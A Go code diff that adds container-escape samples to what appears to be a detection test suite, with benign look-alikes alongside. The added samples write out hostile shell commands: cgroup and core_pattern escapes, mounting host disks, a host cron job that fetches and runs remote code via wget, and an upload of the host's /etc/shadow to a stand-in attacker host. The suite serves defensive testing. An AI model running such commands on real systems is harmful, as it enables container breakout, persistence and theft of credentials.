@@ -1,10 +1,12 @@
 package samples
 
+import "slices"
+
 // escapes try to leave the container. None gets anywhere: the sandbox has
 // nothing of what they look for.
 func escapes() []Sample {
 	core := Spec{Entrypoint: []string{"/bin/sh", "-c", "echo '|/tmp/helper %P' > /proc/sys/kernel/core_pattern"}}
-	return []Sample{
+	return slices.Concat(baited(), []Sample{
 		shows("escape-cgroup-agent/release-agent", script(`mkdir -p /tmp/cg
 mount -t cgroup -o rdma cgroup /tmp/cg
 mkdir -p /tmp/cg/x
@@ -34,5 +36,23 @@ echo done
 		nearly("escape-runtime-sock/own-engine", acts("own-docker-sock")),
 		shows("escape-userns-chain/netfilter", acts("userns-chain"), bad, "NETLINK_NETFILTER"),
 		nearly("escape-userns-chain/sandbox", acts("userns-sandbox")),
+	})
+}
+
+// baited try the same where they find what they look for: a socket that
+// answers, a disk, the tree of a host, files of the kernel that can be written.
+func baited() []Sample {
+	list := []Sample{
+		shows("escape-runtime-sock/container", acts("docker-sock-create"), malicious, "/var/run/docker.sock", "the host's disk", "alpine"),
+		shows("escape-runtime-sock/monitor", acts("docker-sock"), harmless, "/var/run/docker.sock"),
+		shows("escape-mount-device/found", script("for d in /dev/sd?1; do [ -b $d ] && mkdir -p /tmp/d && mount $d /tmp/d; done\necho tried\n"), malicious, "/dev/sda1", "/tmp/d"),
+		nearly("escape-mount-device/listed", script("ls -l /dev > /tmp/devices\ncat /proc/partitions >> /tmp/devices\nfor d in /dev/sd?1; do [ -b $d ] && echo $d; done\necho done\n")),
+		shows("cron-persistence/host", script("if [ -d /host/etc/cron.d ]; then\n  echo '* * * * * root wget -qO- http://203.0.113.64/x | sh' > /host/etc/cron.d/apt\nfi\necho done\n"), malicious, "/host/etc/cron.d/apt"),
+		shows("canary-exfil/host", script("[ -r /host/etc/shadow ] && /bin/actor upload http://upload.evil.test/s /host/etc/shadow\necho done\n"), malicious, "upload.evil.test", "host_shadow"),
+		nearly("canary-exfil/host-monitor", script("[ -r /host/etc/hostname ] && cat /host/etc/hostname /host/etc/os-release > /tmp/node\nexec /bin/actor http-get http://metrics.example.test/up\n")),
 	}
+	for i := range list {
+		list[i].Profile = "thorough"
+	}
+	return list
 }
